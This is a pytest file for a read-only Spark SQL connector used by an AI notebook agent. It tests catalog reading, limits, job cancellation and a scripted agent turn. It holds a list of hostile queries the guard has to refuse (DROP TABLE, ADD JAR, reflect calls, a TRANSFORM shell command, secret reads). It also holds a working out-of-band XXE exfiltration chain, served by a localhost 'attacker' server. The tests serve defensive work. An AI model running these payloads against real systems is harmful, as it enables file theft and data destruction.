"""The Spark connector against a real local Spark: the catalog in the prompt, guarded reads,
refused writes (nothing changes), a timeout that cancels the Spark job (checked in Spark's
status tracker), and a turn through the agent loop with the scripted model."""

from __future__ import annotations

import asyncio
import contextlib
import time
from pathlib import Path

import pytest

import relay_nb
from relay_nb.connectors.spark.connector import SparkConnector
from relay_nb.errors import QueryTimeoutError, UnsafeQueryError

pytestmark = [pytest.mark.slow, pytest.mark.spark, pytest.mark.timeout(300)]


@pytest.fixture
def lake(spark):
    connector = SparkConnector("lake", spark, row_limit=50)
    yield connector
    connector.close()


def test_the_catalog_reads_tables_views_comments_and_partition_columns(lake) -> None:
    names = lake.object_names()
    assert {"shop.customers", "shop.orders", "shop.events", "tiers"} <= set(names)
    events = lake.catalog.find("shop.events")
    day = next(c for c in events.columns if c.name == "day")
    assert day.comment == "partition column" and day.type == "int"
    assert lake.catalog.find("shop.orders").comment == "one row per order"
    prompt = lake.prompt_context(question="revenue of paid orders")
    assert "### Spark connector: lake — Spark SQL, read-only" in prompt
    assert "orders" in prompt and "query_lake" in prompt
    describe = {tool.name: tool for tool in lake.tools()}["describe_lake"]
    found = asyncio.run(describe.run({"tables": ["shop.events"]}))
    assert "day" in found.content and "partition column" in found.content
    listing = asyncio.run(describe.run({}))
    assert listing.content.startswith("tables in lake: ") and "shop.orders" in listing.content


def test_a_guarded_read_runs_as_spark_sql_with_its_limit_in_the_plan(lake) -> None:
    result = asyncio.run(
        lake.aquery(
            "SELECT c.country, SUM(o.total) AS revenue FROM shop.orders o JOIN shop.customers c "
            "ON c.id = o.customer_id WHERE o.status = 'paid' GROUP BY c.country "
            "ORDER BY revenue DESC"
        )
    )
    assert result.executed_sql.endswith("LIMIT 51")
    assert result.df.to_dict("records") == [
        {"country": "DE", "revenue": 130.5},
        {"country": "FR", "revenue": 99.9},
    ]
    view = lake.query("SELECT t.tier, COUNT(*) AS n FROM tiers t GROUP BY t.tier")
    assert view.df.to_dict("records") == [{"tier": "gold", "n": 1}]
    cut = lake.query("SELECT id FROM shop.events")
    assert (cut.row_count, cut.truncated) == (50, True)


WRITES = [
    "INSERT INTO shop.orders VALUES (9, 1, 'paid', 1.0)",
    "INSERT OVERWRITE TABLE shop.orders SELECT * FROM shop.orders WHERE id = 1",
    "DROP TABLE shop.orders",
    "CACHE TABLE shop.orders",
    "SET spark.sql.ansi.enabled = false",
    "ADD JAR /tmp/evil.jar",
    "SELECT * FROM parquet.`/tmp/anything`",
    "SELECT reflect('java.lang.System', 'exit', 0)",
    "SELECT java_method('java.lang.Runtime', 'getRuntime')",
    "SELECT * FROM orders; DROP TABLE orders",
    "CREATE TABLE shop.x AS SELECT 1 AS a",
    # Spark's own side doors
    "SELECT TRANSFORM(id) USING 'touch /tmp/relay_nb_transform' AS (b) FROM shop.orders",
    "SELECT '${env:HOME}' AS home",
    "SELECT 1 AS `${spark.app.name}`",
    "SELECT secret('scope', 'key')",
    "SELECT _metadata.file_path FROM shop.events",
    "SELECT * FROM orders",  # a bare name is a temporary view's; the table is shop.orders
]


@pytest.mark.parametrize("sql", WRITES)
def test_writes_and_side_doors_are_refused_and_nothing_changes(lake, spark, sql) -> None:
    before = spark.sql("SELECT COUNT(*) FROM shop.orders").collect()[0][0]
    ansi = spark.conf.get("spark.sql.ansi.enabled")
    with pytest.raises(UnsafeQueryError):
        lake.query(sql)
    assert spark.sql("SELECT COUNT(*) FROM shop.orders").collect()[0][0] == before
    assert "x" not in {t.name for t in spark.catalog.listTables("shop")}
    assert spark.conf.get("spark.sql.ansi.enabled") == ansi
    assert not spark.catalog.isCached("shop.orders")
    assert not Path("/tmp/relay_nb_transform").exists()


def test_a_temporary_view_cannot_stand_in_for_an_allowed_table(spark) -> None:
    """Spark resolves a bare name to a temporary view first: with only shop.orders allowed,
    `orders` is refused, and shop.orders is the table, whatever view shadows its name."""
    spark.createDataFrame([(99,)], "id INT").createOrReplaceTempView("orders")
    connector = SparkConnector("lake", spark, tables=["shop.orders"])
    try:
        with pytest.raises(UnsafeQueryError, match="table_not_allowed"):
            connector.query("SELECT COUNT(*) AS n FROM orders")
        assert connector.query("SELECT COUNT(*) AS n FROM shop.orders").df["n"].tolist() == [4]
    finally:
        spark.catalog.dropTempView("orders")


def test_reading_stops_at_the_byte_budget(spark) -> None:
    connector = SparkConnector(
        "lake", spark, row_limit=1000, max_value_bytes=1_000, max_result_bytes=20_000
    )
    result = connector.query("SELECT id, repeat('x', 500) AS pad FROM shop.events")
    assert result.truncated and result.limit == "bytes"
    assert 0 < result.row_count < 1000


def test_a_query_leaves_no_job_group_on_its_thread(spark) -> None:
    """aquery's threads are reused: the next work on one must not run in the old group."""
    from concurrent.futures import ThreadPoolExecutor

    connector = SparkConnector("lake", spark)
    context = spark.sparkContext

    async def twice() -> list:
        loop = asyncio.get_running_loop()
        loop.set_default_executor(ThreadPoolExecutor(max_workers=1))
        await connector.aquery("SELECT COUNT(*) FROM shop.orders")
        left = await loop.run_in_executor(None, context.getLocalProperty, "spark.jobGroup.id")
        await connector.aquery("SELECT COUNT(*) FROM shop.customers")
        return [left]

    assert asyncio.run(twice()) == [None]


def test_a_timeout_cancels_the_spark_job(spark) -> None:
    connector = SparkConnector("lake", spark, statement_timeout_s=3)
    groups = iter(["relay_nb-test-timeout", "relay_nb-test-after"])
    connector._group = lambda: next(groups)  # known groups to look up
    tracker = spark.sparkContext.statusTracker()
    started = time.monotonic()
    with pytest.raises(QueryTimeoutError, match="its Spark jobs were cancelled"):
        connector.query("SELECT COUNT(*) FROM shop.events a JOIN shop.events b ON a.id < b.id")
    assert time.monotonic() - started < 20
    jobs = tracker.getJobIdsForGroup("relay_nb-test-timeout")
    assert jobs, "the query ran as Spark jobs of its own group"
    deadline = time.monotonic() + 20
    while tracker.getActiveJobsIds() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not tracker.getActiveJobsIds()
    # the running job was cancelled (one that finished before it, e.g. a broadcast build
    # once the table has statistics, may have succeeded)
    statuses = [tracker.getJobInfo(job).status for job in jobs]
    assert "FAILED" in statuses and "RUNNING" not in statuses
    # the session is still usable, and the next query of the thread has no stale group
    assert connector.query("SELECT COUNT(*) AS n FROM shop.orders").df["n"].tolist() == [4]


def test_cancelling_the_turn_cancels_the_spark_job(spark) -> None:
    """What an interrupted cell does to a running query: the task is cancelled, and with it
    the query's Spark jobs."""
    connector = SparkConnector("lake", spark, statement_timeout_s=120)
    connector._group = lambda: "relay_nb-test-cancel"  # one query: one group
    tracker = spark.sparkContext.statusTracker()

    async def cancel_after_a_second() -> None:
        task = asyncio.ensure_future(
            connector.aquery("SELECT COUNT(*) FROM shop.events a JOIN shop.events b ON a.id < b.id")
        )
        await asyncio.sleep(1.5)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    started = time.monotonic()
    asyncio.run(cancel_after_a_second())
    assert time.monotonic() - started < 20
    jobs = tracker.getJobIdsForGroup("relay_nb-test-cancel")
    assert jobs
    deadline = time.monotonic() + 20
    while tracker.getActiveJobsIds() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert {tracker.getJobInfo(job).status for job in jobs} == {"FAILED"}


def test_a_turn_through_the_agent_loop(spark) -> None:
    model = relay_nb.ScriptedRuntime(
        [
            {
                "tool_calls": [
                    {
                        "name": "query_lake",
                        "input": {
                            "sql": "SELECT status, COUNT(*) AS n FROM shop.orders GROUP BY status"
                        },
                    }
                ]
            },
            {"text": "Three paid orders and one refund."},
        ]
    )
    relay = relay_nb.Relay(model, ledger=False)
    try:
        relay.connect("lake", spark, tables=["shop.orders", "shop.customers"])
        turn = relay.ask("How many orders per status?")
        assert turn.finish_reason == "stop"
        assert turn.df is not None, [o.content for o in turn.tool_results]
        assert sorted(turn.df.itertuples(index=False)) == [("paid", 3), ("refunded", 1)]
        system = model.requests[0].messages[0].content
        assert "Spark connector: lake" in system and "events" not in system
        assert "shop.orders" in system  # tables are shown, and written, database.table
    finally:
        relay.close()


def test_tables_named_in_another_database_are_read_from_it(spark) -> None:
    spark.catalog.setCurrentDatabase("default")
    try:
        connector = SparkConnector("lake", spark, tables=["shop.orders"])
        assert connector.object_names() == ["shop.orders"]
    finally:
        spark.catalog.setCurrentDatabase("shop")


def test_a_databricks_runtime_is_guarded_in_databricks_sql(spark, monkeypatch) -> None:
    qualify = (
        "SELECT id, customer_id FROM shop.orders "
        "QUALIFY ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY id) = 1"
    )
    with pytest.raises(UnsafeQueryError):  # open-source Spark has no QUALIFY
        SparkConnector("lake", spark).guard(qualify)
    monkeypatch.setenv("DATABRICKS_RUNTIME_VERSION", "15.4")
    lake = SparkConnector("lake", spark)
    assert lake.dialect == "databricks" and "QUALIFY" in lake.guard(qualify).sql
    with pytest.raises(relay_nb.ConfigurationError, match="'spark' or 'databricks'"):
        SparkConnector("lake", spark, dialect="hive")


def test_the_session_catalog_read_says_what_describe_says(spark) -> None:
    from relay_nb.connectors.spark.catalog import _columns
    from relay_nb.connectors.spark.metastore import classic_listing

    spark.sql(
        "CREATE TABLE IF NOT EXISTS shop.shapes (id BIGINT COMMENT 'the id', tags ARRAY<STRING>, "
        "attrs MAP<STRING, INT>, point STRUCT<x: DOUBLE, y: DOUBLE>, price DECIMAL(10,2), "
        "day DATE) USING parquet PARTITIONED BY (day) COMMENT 'odd types'"
    )
    listed = classic_listing(spark, ["shop"], lambda schema, name: name != "customers")
    assert listed is not None
    by_name = {(entry.schema, entry.name): entry for entry in listed}
    assert ("shop", "customers") not in by_name  # what keep() refuses is not read
    assert by_name[(None, "tiers")].columns is None  # a temporary view: described after
    assert by_name[("shop", "orders")].comment == "one row per order"
    assert by_name[("shop", "shapes")].comment == "odd types"
    for name in ("orders", "events", "shapes"):
        entry = by_name[("shop", name)]
        assert entry.kind == "table"
        assert list(entry.columns) == _columns(spark, "shop", name), name


class _Attacker:
    """A server on 127.0.0.1 playing the attacker of an out-of-band XXE: it serves an XSD
    whose external DTD sends a local file's contents back in a URL (found by a red team:
    ``from_xml``'s ``rowValidationXSDPath`` passed the guard)."""

    def __init__(self, target: Path) -> None:
        import http.server
        import threading

        hits: list[str] = []
        self.hits = hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                port = self.server.server_address[1]
                if self.path.startswith("/evil.xsd"):
                    body = (
                        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % file SYSTEM '
                        f'"file://{target}"><!ENTITY % dtd SYSTEM '
                        f'"http://127.0.0.1:{port}/evil.dtd">%dtd;%send;]>'
                        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
                        '<xs:element name="r"/></xs:schema>'
                    )
                elif self.path.startswith("/evil.dtd"):
                    body = (
                        '<!ENTITY % all "<!ENTITY &#x25; send SYSTEM '
                        f"'http://127.0.0.1:{port}/leak?d=%file;'>\">%all;"
                    )
                else:
                    body = "<x/>"
                self.send_response(200)
                self.end_headers()
                self.wfile.write(body.encode())

            def log_message(self, format: str, *args: object) -> None:
                return None

        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_xml_functions_cannot_fetch_a_schema_or_a_dtd(lake, spark, tmp_path: Path) -> None:
    """Through the raw session the XSD option fetches from the attacker and a local file's
    contents reach it; through the connector every spelling is refused before Spark runs
    anything, and the attacker hears nothing. Plain XML functions still run."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-FILE-CONTENT")
    attacker = _Attacker(secret)
    try:
        xsd = f"http://127.0.0.1:{attacker.port}/evil.xsd"
        payload = f"SELECT from_xml('<r>1</r>', 'r STRING', map('rowValidationXSDPath', '{xsd}'))"
        with contextlib.suppress(Exception):  # Spark fails the row, after the fetches
            spark.sql(payload).collect()
        assert any("TOPSECRET-FILE-CONTENT" in hit for hit in attacker.hits)  # harmful
        attacker.hits.clear()
        for sql in (
            payload,
            payload.replace("rowValidationXSDPath", "ROWVALIDATIONXSDPATH"),
            f"SELECT schema_of_xml('<r>1</r>', map('rowvalidationxsdpath', '{xsd}'))",
            "SELECT from_xml('<r>1</r>', 'r STRING', "
            f"map(concat('rowValidation', 'XSDPath'), '{xsd}'))",
            f"SELECT xpath_string('<!DOCTYPE a SYSTEM \"{xsd}\"><a>1</a>', '/a')",
        ):
            with pytest.raises(UnsafeQueryError) as info:
                lake.query(sql)
            assert info.value.rule == "file_access"
        assert attacker.hits == []
    finally:
        attacker.close()
    plain = lake.query(
        "SELECT from_xml('<r><a>1</a></r>', 'a INT', map('mode', 'PERMISSIVE')) AS v"
    )
    assert plain.df.iloc[0]["v"]["a"] == 1
    assert lake.query("SELECT xpath_int('<a><b>2</b></a>', 'a/b') AS n").df.iloc[0]["n"] == 2
